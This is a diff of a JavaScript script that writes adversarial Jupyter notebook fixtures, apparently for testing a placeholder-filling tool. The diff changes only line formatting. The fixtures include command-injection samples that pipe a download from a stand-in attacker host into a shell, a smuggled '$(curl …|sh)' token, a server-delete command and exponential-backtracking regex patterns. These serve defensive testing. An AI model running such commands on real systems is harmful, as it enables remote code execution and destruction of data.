@@ -49,7 +49,10 @@ const files = {
   // Class 3: a record whose fingerprint matches (it is public) but whose
   // template is not the cell with values turned back into tokens.
   'fillrecord-extra-code': notebook([
-    filled(SHOW, 'openstack server show node1-netID\ncurl -s http://attacker.example/x | sh')
+    filled(
+      SHOW,
+      'openstack server show node1-netID\ncurl -s http://attacker.example/x | sh'
+    )
   ]),
   'fillrecord-outside-tokens': notebook([
     filled(SHOW, 'openstack server delete node1-netID')
@@ -71,17 +74,27 @@ const files = {
   ]),
   'fillrecord-declared-token': notebook(
     [filled('echo ff524', 'echo $(curl -s attacker.example|sh)')],
-    { placeholders: [{ token: '$(curl -s attacker.example|sh)', field: 'netID' }] }
+    {
+      placeholders: [
+        { token: '$(curl -s attacker.example|sh)', field: 'netID' }
+      ]
+    }
   ),
   // Class 4a: author patterns that backtrack exponentially in RegExp.
   'regex-nested-plus': notebook([code('echo <id>')], {
-    placeholders: [{ token: '<id>', pattern: '(a+)+', example: `${'a'.repeat(40)}b` }]
+    placeholders: [
+      { token: '<id>', pattern: '(a+)+', example: `${'a'.repeat(40)}b` }
+    ]
   }),
   'regex-alternation': notebook([code('echo <id>')], {
-    placeholders: [{ token: '<id>', pattern: '(a|aa)*b', example: 'a'.repeat(60) }]
+    placeholders: [
+      { token: '<id>', pattern: '(a|aa)*b', example: 'a'.repeat(60) }
+    ]
   }),
   'regex-repeated-group': notebook([code('echo <id>')], {
-    placeholders: [{ token: '<id>', pattern: '(.*a){20}', example: `${'a'.repeat(60)}b` }]
+    placeholders: [
+      { token: '<id>', pattern: '(.*a){20}', example: `${'a'.repeat(60)}b` }
+    ]
   }),
   // Class 4b: cells that made our own scans quadratic (or worse).
   'regex-heading-spaces': notebook([markdown(`#${' '.repeat(BIG)}\u2028`)]),
@@ -92,11 +105,16 @@ const files = {
     code(`# run on node1${' '.repeat(BIG)}x\necho hi`)
   ]),
   'regex-block-blank-lines': notebook([
-    markdown(`\`\`\`bash\necho hi${' '.repeat(BIG)}x\n${'\n'.repeat(BIG / 2)}x\n\`\`\``)
+    markdown(
+      `\`\`\`bash\necho hi${' '.repeat(BIG)}x\n${'\n'.repeat(BIG / 2)}x\n\`\`\``
+    )
   ]),
   'regex-many-tokens': notebook([code('a'.repeat(BIG))], {
     placeholders: Array.from({ length: 50 }, (_, i) => ({
-      token: `${'a'.repeat(98)}${String.fromCharCode(66 + (i % 26))}${i}`.slice(0, 100)
+      token: `${'a'.repeat(98)}${String.fromCharCode(66 + (i % 26))}${i}`.slice(
+        0,
+        100
+      )
     }))
   }),
   'regex-log-ticks': (() => {
@@ -111,7 +129,10 @@ const files = {
     for (let c = 0; c < ticks / 500; c++) {
       const record = {};
       for (let i = 0; i < 500; i++) {
-        record[`k${c}x${i}`] = { at: iso(start + (ticks + c * 500 + i) * 1000), via: 'tick' };
+        record[`k${c}x${i}`] = {
+          at: iso(start + (ticks + c * 500 + i) * 1000),
+          via: 'tick'
+        };
       }
       cells.push(markdown('```bash\necho hi\n```', { ticks: record }));
     }
@@ -120,6 +141,9 @@ const files = {
 };
 
 for (const [name, content] of Object.entries(files)) {
-  writeFileSync(join(HERE, `${name}.ipynb`), `${JSON.stringify(content, null, 1)}\n`);
+  writeFileSync(
+    join(HERE, `${name}.ipynb`),
+    `${JSON.stringify(content, null, 1)}\n`
+  );
 }
 console.log(`wrote ${Object.keys(files).length} notebooks`);
